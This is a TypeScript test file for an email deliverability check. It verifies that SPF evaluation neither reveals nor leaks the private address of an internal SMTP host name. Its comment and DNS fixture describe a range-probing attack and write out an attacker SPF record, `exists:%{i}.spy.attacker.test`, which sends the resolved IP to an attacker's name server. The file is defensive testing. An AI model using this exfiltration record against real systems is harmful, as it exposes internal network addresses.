// The deliverability check evaluates the From domain's SPF record for an address of the SMTP host. The
// attack: a team admin names an internal host (a name only the server's DNS knows) as the SMTP host and a
// From domain of their own, whose SPF record either tests ranges (ip4:10.0.0.0/8 pass or fail, one bit a
// check) or sends the address to their own name server (`exists:%{i}.spy…`). The door never shows the
// address of a name in a range it refuses; the check must neither show it nor evaluate SPF with it.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAccount } from '../accounts/createAccount';
import { createTeam } from '../auth/teams';
import { createTestEnv, startTestDnsServer, type TestDnsServer, type TestEnv } from '../testing';
import { checkDeliverability } from './checkDeliverability';

describe('the deliverability check never reveals where an internal host name points', () => {
  let env: TestEnv;
  let dns: TestDnsServer;
  beforeAll(async () => {
    dns = await startTestDnsServer({
      'attacker.test': { TXT: ['v=spf1 exists:%{i}.spy.attacker.test ip4:10.0.0.0/8 -all'] },
      'vault.corp.test': { A: ['10.1.2.3'] },
      'public.test': { TXT: ['v=spf1 ip4:44.0.0.0/24 -all'] },
      'smtp.public.test': { A: ['44.0.0.7'] },
    });
    env = await createTestEnv('pglite', {
      dnsServers: [dns.server],
      allowPrivateHosts: false,
      timeouts: { connectMs: 1000, greetingMs: 5000, commandMs: 5000 },
    });
  }, 60_000);
  afterAll(async () => {
    await env?.close();
    await dns?.close();
  });

  const account = async (name: string, host: string, from: string) => {
    const team = await createTeam({ ctx: env.ctx, input: { name } });
    const lead = env.as({ role: 'team_admin', teamIds: [team.id], label: `lead-${name}` });
    const created = await createAccount({
      ctx: lead,
      input: {
        name,
        teamId: team.id,
        outgoing: { transport: 'smtp', host, port: 587, security: 'starttls', from: { address: from } },
      },
    });
    return { lead, id: created.id };
  };

  it('an SMTP host name with a private address: SPF is not evaluated with it, the address is not shown', async () => {
    const { lead, id } = await account('internal', 'vault.corp.test', 'x@attacker.test');
    dns.asked.length = 0;
    const result = await checkDeliverability({ ctx: lead, id });
    const text = JSON.stringify(result);
    expect(text).not.toContain('10.1.2.3');
    // Nothing carrying the address reached a name server (the %{i} macro would send it to the attacker's).
    expect(dns.asked.filter((q) => q.includes('10.1.2.3') || q.includes('3.2.1.10'))).toEqual([]);
    const spf = result.checks.find((c) => c.name === 'spf');
    expect(spf?.result, JSON.stringify(spf)).toBe('warn');
  });

  it('a public SMTP host is still evaluated and named', async () => {
    const { lead, id } = await account('public', 'smtp.public.test', 'x@public.test');
    const result = await checkDeliverability({ ctx: lead, id });
    const spf = result.checks.find((c) => c.name === 'spf');
    expect(spf, JSON.stringify(spf)).toMatchObject({ result: 'pass' });
    expect(spf?.detail).toContain('44.0.0.7');
  });
});
